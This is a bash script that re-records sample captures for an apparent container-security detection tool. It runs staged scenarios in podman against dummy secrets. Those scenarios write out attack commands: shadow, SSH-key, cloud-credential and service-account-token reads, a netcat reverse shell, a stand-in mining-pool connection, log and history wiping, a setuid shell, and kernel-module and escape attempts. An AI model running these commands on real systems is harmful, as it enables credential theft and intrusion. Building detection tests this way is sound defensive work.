#!/usr/bin/env bash
# Re-records the bundled real samples: each scenario runs in a podman container (a busybox
# image built here from the host's busybox-static, no registry; commands by full path, so
# that busybox's shell execs each applet by name rather than through /proc/self/exe) while
# `dredge record --containers-only` captures it. Needs root, eBPF, podman, runc and
# busybox-static (see ../shared/reference/containers-here.md for the flags this VM needs).
#
#   samples/record.sh            all scenarios
#   samples/record.sh NAME...    only those
#
# What each scenario does, and what the built-in rules find in it, is in samples/README.md;
# tests/samples.rs checks the findings. Re-recording changes the files (times, ids): run the
# tests afterwards, and update README and the test if a scenario changes.
set -euo pipefail
cd "$(dirname "$0")/.."

[ "$(id -u)" = 0 ] || { echo "needs root (the recorder loads BPF programs)" >&2; exit 2; }
for tool in podman runc /bin/busybox cc; do
  command -v "$tool" >/dev/null ||
    { echo "needs $tool (apt-get install podman runc busybox-static gcc)" >&2; exit 2; }
done
cargo build --release -q
dredge="$PWD/target/release/dredge"
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

# The image: busybox and the applets the scenarios use; intruder (samples/tools/intruder.c,
# built static here) for what busybox cannot do; a passwd with root and a service user; and
# what an intruder looks for: a shadow file, an SSH key, cloud and cluster credentials, logs
# and a shell history to wipe, a script left in /tmp.
image=localhost/dredge-sample-busybox:1
root="$work/rootfs"
mkdir -p "$root"/{bin,etc,tmp,www,usr/bin,root/.ssh,root/.aws,mnt,var/log,var/spool/cron/crontabs}
mkdir -p "$root/var/run/secrets/kubernetes.io/serviceaccount"
cp /bin/busybox "$root/bin/busybox"
cc -static -Os -Wall -o "$root/bin/intruder" samples/tools/intruder.c
for applet in sh cat ls id echo sleep find httpd wget nc mkdir seq grep cp rm ln chmod dpkg \
    passwd crontab traceroute timeout mount unshare nsenter insmod true; do
  ln -s busybox "$root/bin/$applet"
done
printf 'root:x:0:0:root:/root:/bin/sh\nwww:x:33:33:www:/www:/bin/false\n' > "$root/etc/passwd"
printf 'root:x:0:\nwww:x:33:\n' > "$root/etc/group"
printf 'root:$6$salt$hash:19000:0:99999:7:::\nwww:*:19000:0:99999:7:::\n' > "$root/etc/shadow"
for page in index about contact; do echo "<p>$page</p>" > "$root/www/$page.html"; done
echo "-----BEGIN OPENSSH PRIVATE KEY-----" > "$root/root/.ssh/id_ed25519"
printf '[default]\naws_access_key_id = AKIAEXAMPLE\n' > "$root/root/.aws/credentials"
echo "eyJhbGciOiJSUzI1NiJ9.example" > "$root/var/run/secrets/kubernetes.io/serviceaccount/token"
echo "Dec  4 10:00:00 app started" > "$root/var/log/app.log"
echo "/bin/cat /etc/shadow" > "$root/root/.ash_history"
printf '#!/bin/sh\n/bin/true\n' > "$root/tmp/update.sh"
chmod +x "$root/tmp/update.sh"
printf '/bin/id\nexit\n' > "$root/etc/commands"
echo "not a module" > "$root/tmp/rootkit.ko"
tar -C "$root" -cf "$work/image.tar" .
podman import -q "$work/image.tar" "$image" >/dev/null

# record NAME SCRIPT [PODMAN-OPTION...]: runs SCRIPT with /bin/sh in a fresh container named
# NAME while recording into samples/NAME.dcap.
record() {
  local name=$1 script=$2 out="samples/$1.dcap"
  shift 2
  rm -f "$out" "$work/rec.err"
  "$dredge" record -w "$out" --containers-only 2>"$work/rec.err" &
  local pid=$!
  until grep -q "^recording to" "$work/rec.err" 2>/dev/null; do
    kill -0 "$pid" 2>/dev/null || { cat "$work/rec.err" >&2; exit 1; }
    sleep 0.05
  done
  podman --runtime runc run --rm --ulimit nofile=20000:20000 --ulimit nproc=1000:1000 \
    "$@" --name "$name" "$image" /bin/sh -c "$script"
  sleep 0.5
  kill -INT "$pid"
  wait "$pid"
  "$dredge" verify "$out" >/dev/null
  local events
  events=$(grep ' events in ' "$work/rec.err" | sed -E 's/.*: ([0-9]+) events.*/\1/')
  echo "$out: $(stat -c %s "$out") bytes, $events events"
}

# baseline-web: ordinary container work. busybox httpd serves a small site as user www,
# and a client in the same container fetches each page ten times.
baseline_web='/bin/httpd -p 8080 -h /www -u www; /bin/sleep 0.3
for i in $(/bin/seq 10); do
  for page in index about contact; do
    /bin/wget -q -O /dev/null http://127.0.0.1:8080/$page.html
  done
done
/bin/ls /www > /dev/null'

# shell-secrets-bindir: a non-shell process (find) spawns a shell, which reads the shadow
# file and drops a file below /usr/bin.
shell_secrets_bindir='/bin/find /etc -maxdepth 0 -exec /bin/sh -c \
  "/bin/cat /etc/shadow > /dev/null; echo x > /usr/bin/.cache" \;'

# exec-drift: programs that are not the image's run in the container: a package manager, a
# user tool, a binary copied in and run (drift), a script left in /tmp, a payload run from a
# memfd, a route tracer; then ptrace and /proc/PID/mem on a child, and a BPF program load.
exec_drift='/bin/dpkg -l > /dev/null 2>&1
/bin/passwd -l www
/bin/cp /bin/busybox /tmp/cat; /tmp/cat /etc/hostname > /dev/null
/tmp/update.sh
/bin/intruder memfd-exec /bin/busybox echo fileless > /dev/null
/bin/traceroute -m 1 -q 1 -w 1 127.0.0.1 > /dev/null 2>&1
/bin/intruder ptrace
/bin/intruder bpf 2> /dev/null
true'

# files-tamper: secrets read (SSH key, cloud credentials, a service account token, another
# process's environment), a link to the shadow file, a write below /etc, a cron job, a log
# truncated and a history deleted, a setuid copy of a shell.
files_tamper='/bin/cat /root/.ssh/id_ed25519 > /dev/null
/bin/cat /root/.aws/credentials > /dev/null
/bin/cat /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/null
/bin/cat /proc/1/environ > /dev/null
/bin/ln -s /etc/shadow /tmp/.s
echo "nameserver 10.0.0.53" >> /etc/resolv.conf
echo "* * * * * /tmp/.x" | /bin/crontab -
: > /var/log/app.log
/bin/rm /root/.ash_history
/bin/cp /bin/busybox /tmp/.sh; /bin/chmod u+s /tmp/.sh'

# reverse-shell: netcat runs a shell on a connection to a listener (the operator's end, in
# the same container) on port 9001; then data goes to a stand-in mining pool on port 3333.
reverse_shell='/bin/timeout 5 /bin/nc -l -p 9001 < /etc/commands > /dev/null &
/bin/sleep 0.3
/bin/timeout 5 /bin/nc 127.0.0.1 9001 -e /bin/sh
/bin/timeout 5 /bin/nc -l -p 3333 > /dev/null &
/bin/sleep 0.3
echo "{\"id\":1,\"method\":\"login\"}" | /bin/timeout 2 /bin/nc 127.0.0.1 3333
wait'

# privileged-escape: a privileged container mounts, makes and enters namespaces, tries to
# load a kernel module and opens core_pattern for writing (writing nothing to it).
privileged_escape='/bin/mount -t tmpfs none /mnt
/bin/unshare -m /bin/true
/bin/nsenter -t 1 -m /bin/true
/bin/insmod /tmp/rootkit.ko 2> /dev/null
true >> /proc/sys/kernel/core_pattern
true'

all=(baseline-web shell-secrets-bindir exec-drift files-tamper reverse-shell privileged-escape)
want=("$@")
[ ${#want[@]} -gt 0 ] || want=("${all[@]}")
for name in "${want[@]}"; do
  case "$name" in
    baseline-web) record "$name" "$baseline_web" ;;
    shell-secrets-bindir) record "$name" "$shell_secrets_bindir" ;;
    exec-drift) record "$name" "$exec_drift" ;;
    files-tamper) record "$name" "$files_tamper" ;;
    reverse-shell) record "$name" "$reverse_shell" ;;
    privileged-escape) record "$name" "$privileged_escape" --privileged ;;
    *) echo "no scenario $name" >&2; exit 2 ;;
  esac
done
